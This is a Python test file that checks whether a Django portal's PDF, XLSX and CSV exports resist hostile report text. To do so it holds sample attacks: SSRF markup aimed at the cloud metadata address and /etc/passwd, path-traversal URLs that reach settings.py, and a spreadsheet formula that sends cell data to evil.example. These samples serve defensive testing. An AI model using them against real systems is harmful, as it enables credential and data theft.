"""Report text is agencies' input: it never fetches anything, never runs as a formula."""

import csv
import io
import socket
import urllib.request
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from weasyprint import HTML

from public.exports import pdf
from public.exports.csv import ConsolidatedCsv
from public.exports.pdf import BASE_URL, PORTAL_ORIGIN, ConsolidatedPdf, StaticFilesFetcher
from public.exports.sources import ConsolidatedReport
from public.exports.xlsx import ConsolidatedXlsx
from reports.models import ProgressReport
from tests.factories import AssignmentFactory, PeriodFactory, ReportFactory

from .conftest import pdf_text

pytestmark = pytest.mark.django_db

METADATA_URL = "http://169.254.169.254/latest/meta-data/"
HOSTILE_TEXT = (
    f'Hesabat <img src="{METADATA_URL}"> '
    '<img src="file:///etc/passwd"> '
    '<link rel="stylesheet" href="file:///etc/passwd">'
    '<style>@import url("http://169.254.169.254/x.css");</style>'
)
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Ətraflı")'


def small_report(works_done: str, **extra):
    """A published report on a one-measure plan, in a published period."""
    assignment = AssignmentFactory()
    measure = assignment.measure
    period = PeriodFactory(plan=measure.plan, year=2023, is_published=True)
    ReportFactory(
        measure=measure,
        agency=assignment.agency,
        period=period,
        works_done=works_done,
        state=ProgressReport.State.PUBLISHED,
        **extra,
    )
    return ConsolidatedReport(measure.plan, period)


@pytest.fixture
def fetch_spy(monkeypatch):
    """Every URL the PDF renderer asks for, and whether the network or a file was opened."""
    calls = {"fetched": [], "network": [], "opened": []}
    original = StaticFilesFetcher.fetch

    def spy(self, url, headers=None):
        calls["fetched"].append(url)
        return original(self, url, headers)

    def no_network(*args, **kwargs):
        calls["network"].append(args)
        raise OSError("network access in a test")

    def no_urllib(self, *args, **kwargs):
        calls["opened"].append(args)
        raise OSError("urllib access in a test")

    monkeypatch.setattr(StaticFilesFetcher, "fetch", spy)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(urllib.request.OpenerDirector, "open", no_urllib)
    return calls


def static_only(urls: list[str]) -> bool:
    return all(url.startswith(f"{PORTAL_ORIGIN}/static/") for url in urls)


def test_hostile_markup_in_a_report_fetches_nothing_and_shows_as_text(fetch_spy, tmp_path):
    _, _, data = ConsolidatedPdf(small_report(HOSTILE_TEXT), language="en").render()
    assert fetch_spy["fetched"], "the spy saw no fetch at all: fonts and stylesheet are fetched"
    assert static_only(fetch_spy["fetched"]), fetch_spy["fetched"]
    assert fetch_spy["network"] == [] and fetch_spy["opened"] == []
    # The fonts come from the portal's static files, not from the system's fontconfig.
    fetched = " ".join(fetch_spy["fetched"])
    assert (
        "/static/fonts/DejaVuSans.ttf" in fetched and "/static/fonts/DejaVuSans-Bold.ttf" in fetched
    )
    text = pdf_text(data, tmp_path)
    assert '<img src="http://169.254.169.254/latest/meta-data/">' in text  # escaped, inert


def test_raw_html_with_remote_and_file_urls_fetches_nothing(fetch_spy):
    # Even markup that escaped the template's autoescaping cannot reach out.
    html = (
        f'<link rel="stylesheet" href="file:///etc/passwd"><img src="{METADATA_URL}">'
        '<img src="file:///etc/passwd"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="/static/../../../../etc/passwd"><p>ə</p>'
    )
    HTML(string=html, base_url=BASE_URL, url_fetcher=StaticFilesFetcher()).write_pdf()
    assert METADATA_URL in fetch_spy["fetched"]  # asked for, and refused
    assert fetch_spy["network"] == [] and fetch_spy["opened"] == []


@pytest.mark.parametrize(
    "url",
    [
        METADATA_URL,
        "https://example.org/static/pdf/print.css",
        "file:///etc/passwd",
        "data:text/css,body{}",
        f"{PORTAL_ORIGIN}/static/../settings.py",
        f"{PORTAL_ORIGIN}/static/%2e%2e/%2e%2e/nap_portal/settings.py",
        f"{PORTAL_ORIGIN}/etc/passwd",
        f"{PORTAL_ORIGIN}/static/pdf/no-such-file.css",
        f"http://{PORTAL_ORIGIN.split('//')[1]}/static/pdf/print.css",
    ],
)
def test_fetcher_refuses_everything_but_static_files(url):
    with pytest.raises(ValueError):
        StaticFilesFetcher().fetch(url)


def test_fetcher_serves_the_portals_static_files():
    response = StaticFilesFetcher().fetch(f"{PORTAL_ORIGIN}/static/fonts/DejaVuSans.ttf")
    assert response.read(4) == b"\x00\x01\x00\x00"  # a TrueType font


def test_formula_in_report_text_is_text_in_xlsx_and_quoted_in_csv():
    report = small_report(FORMULA)
    _, _, xlsx = ConsolidatedXlsx(report, language="en").render()
    sheet = load_workbook(io.BytesIO(xlsx))["Reports"]
    cell = sheet.cell(row=2, column=8)
    assert cell.value == FORMULA and cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)  # no formula anywhere
    _, _, data = ConsolidatedCsv(report, language="en").render()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][7] == "'" + FORMULA


# NUL cannot be stored in PostgreSQL text; test_exports_cells covers it without the database.
@pytest.mark.parametrize("prefix", ["+", "-", "@", "\t", "\r"])
def test_other_formula_triggers_are_neutralised(prefix):
    report = small_report(prefix + "SUM(1,2)")
    _, _, data = ConsolidatedCsv(report, language="en").render()
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1]
    assert row[7].startswith("'")
    _, _, xlsx = ConsolidatedXlsx(report, language="en").render()
    cell = load_workbook(io.BytesIO(xlsx))["Reports"].cell(row=2, column=8)
    assert cell.data_type == "s" and cell.value.endswith("SUM(1,2)")


def test_characters_excel_rejects_and_huge_text_survive_the_xlsx():
    report = small_report("Ə\x01\x0b" + "ş" * 40_000)
    _, _, xlsx = ConsolidatedXlsx(report, language="en").render()
    value = load_workbook(io.BytesIO(xlsx))["Reports"].cell(row=2, column=8).value
    assert value.startswith("Əşş") and len(value) == 32_767 and "characters cut" in value


def test_pdf_escapes_markup_through_the_download_view_too(client, monkeypatch, fetch_spy):
    report = small_report(HOSTILE_TEXT)
    url = reverse("plans:report-download", args=[report.plan.slug, 2023, "pdf"])
    response = client.get(url)
    assert response.status_code == 200
    b"".join(response.streaming_content)
    assert static_only(fetch_spy["fetched"]) and fetch_spy["network"] == []


def test_css_string_escapes_quotes():
    assert pdf.css_string('a"b\\c') == '"a\\22 b\\5c c"'
